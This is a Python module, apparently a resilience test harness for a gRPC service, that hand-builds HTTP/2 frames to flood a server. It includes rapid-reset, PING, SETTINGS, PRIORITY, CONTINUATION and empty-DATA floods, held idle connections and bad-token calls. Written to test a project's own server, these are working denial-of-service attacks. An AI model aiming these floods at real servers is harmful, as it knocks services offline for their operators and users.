"""Floods that cost a client without a token little: raw HTTP/2 frames, as fast as the socket takes them.

Each function of FLOODS takes a server's address and sends until `over` is set. Frames are built by hand, since a client
library would refuse to send most of them.

    process.start("The flood", flood, "resets", address)
"""

import os
import random
import select
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from multiprocessing.connection import Connection

from splitlearn.wire import SERVICE

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
HEALTH, SESSION, DESCRIBE = "/grpc.health.v1.Health/Check", f"/{SERVICE}/Session", f"/{SERVICE}/Describe"
CALLS, CONNECTIONS, BURST = 130, 200, 200
NICE = 19
"""The flood stands in for another machine, so it takes only idle time of this one's cores."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def fields(method: str, *others: tuple[str, str]) -> bytes:
    """The header block of a call of `method`: literals, nothing compressed."""
    usual = ((":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "x"))
    said = (*usual, ("te", "trailers"), ("content-type", "application/grpc"), *others)
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in said)


def begun(stream: int, method: str, *others: tuple[str, str]) -> bytes:
    """The start of a call, without its first message."""
    return frame(HEADERS, END_HEADERS, stream, fields(method, *others))


def _text(value: str) -> bytes:
    assert len(value) < 127
    return bytes([len(value)]) + value.encode()


@contextmanager
def connected(address: str, greeting: bytes = PREFACE + frame(SETTINGS, 0, 0)) -> Iterator[socket.socket]:
    """A connection on which `greeting` was sent."""
    host, _, port = address.rpartition(":")
    with socket.create_connection((host, int(port)), timeout=5) as connection:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        connection.sendall(greeting)
        yield connection


def closed(connection: socket.socket, within_s: float) -> bool:
    """Whether the server closes the connection within `within_s`. Data that comes before is read and dropped."""
    connection.settimeout(within_s)
    try:
        while connection.recv(65536):
            pass
    except TimeoutError:
        return False
    except OSError:
        return True
    return True


def calls_without_a_message(address: str, over: threading.Event) -> None:
    """130 calls without a message on each connection. A new connection every half second, then all again."""
    calls = b"".join(begun(1 + 2 * number, HEALTH) for number in range(CALLS))
    while not over.is_set():
        with ExitStack() as stack, suppress(OSError):
            for _ in range(CONNECTIONS // 10):
                stack.enter_context(connected(address)).sendall(calls)
                if over.wait(0.5):
                    return


def silent_connections(address: str, over: threading.Event) -> None:
    """Connections that send nothing, reopened when closed."""
    _many(address, over, b"")


def greeting_connections(address: str, over: threading.Event) -> None:
    """Connections that send the HTTP/2 preface and nothing else."""
    _many(address, over, PREFACE + frame(SETTINGS, 0, 0))


def calling_connections(address: str, over: threading.Event) -> None:
    """Connections with one call each, without its message."""
    _many(address, over, PREFACE + frame(SETTINGS, 0, 0) + begun(1, HEALTH))


def denied(address: str, over: threading.Event) -> None:
    """Thousands of calls with a wrong token."""
    shown = ("authorization", f"Bearer {random.Random(0).getrandbits(256):x}")
    _pour(address, over, lambda stream: begun(stream, DESCRIBE, shown))


def resets(address: str, over: threading.Event) -> None:
    """Calls that are reset at once ("rapid reset")."""
    _pour(address, over, lambda stream: begun(stream, HEALTH) + frame(RESET, 0, stream, b"\0\0\0\x08"))


def pings(address: str, over: threading.Event) -> None:
    """PING frames."""
    _pour(address, over, lambda _: frame(PING, 0, 0, bytes(8)))


def settings(address: str, over: threading.Event) -> None:
    """SETTINGS frames, each of which must be acknowledged."""
    _pour(address, over, lambda _: frame(SETTINGS, 0, 0, b"\0\x04" + (65535).to_bytes(4, "big")))


def priorities(address: str, over: threading.Event) -> None:
    """PRIORITY frames for streams that do not exist."""
    _pour(address, over, lambda stream: frame(PRIORITY, 0, stream, b"\0\0\0\0\x10"))


def endless_headers(address: str, over: threading.Event) -> None:
    """One header block that never ends, in CONTINUATION frames."""
    first = frame(HEADERS, 0, 1, fields(HEALTH))
    more = frame(CONTINUATION, 0, 1, b"\0" + _text("x") + _text("y" * 100))
    _pour(address, over, lambda _: more, first)


def empty_data(address: str, over: threading.Event) -> None:
    """DATA frames without data, in a call that never ends."""
    _pour(address, over, lambda _: frame(DATA, 0, 1), begun(1, HEALTH))


Flood = Callable[[str, threading.Event], None]
FLOODS: dict[str, Flood] = {
    "calls without a message": calls_without_a_message,
    "connections, silent": silent_connections,
    "connections, greeting only": greeting_connections,
    "connections, a call each": calling_connections,
    "denied calls": denied,
    "resets": resets,
    "PING": pings,
    "SETTINGS": settings,
    "PRIORITY": priorities,
    "CONTINUATION": endless_headers,
    "empty DATA": empty_data,
}


def flood(connection: Connection, name: str, address: str) -> None:
    """The flood process: send FLOODS[name] until the parent sends a message."""
    os.nice(NICE)
    over = threading.Event()

    def wait() -> None:
        connection.poll(None)
        over.set()

    threading.Thread(target=wait, daemon=True).start()
    connection.send("begun")
    FLOODS[name](address, over)
    connection.send("over")


def _many(address: str, over: threading.Event, greeting: bytes) -> None:
    while not over.is_set():
        with ExitStack() as stack, suppress(OSError):
            held = [stack.enter_context(connected(address, greeting)) for _ in range(CONNECTIONS)]
            while not over.is_set():
                readable, _, _ = select.select(held, [], [], 0.5)
                if any(_ended(connection) for connection in readable):
                    break


def _ended(connection: socket.socket) -> bool:
    try:
        return not connection.recv(65536)
    except OSError:
        return True


def _pour(address: str, over: threading.Event, make: Callable[[int], bytes], first: bytes = b"") -> None:
    """Send `make(stream)` for successive streams, in bursts, as fast as the server takes it."""
    while not over.is_set():
        with suppress(OSError), connected(address) as connection:
            connection.sendall(first)
            for stream in range(3, 2**31 - 2 * BURST, 2 * BURST):
                if over.is_set():
                    return
                connection.sendall(b"".join(make(stream + 2 * number) for number in range(BURST)))
                while select.select([connection], [], [], 0)[0]:
                    if not connection.recv(65536):
                        raise ConnectionResetError
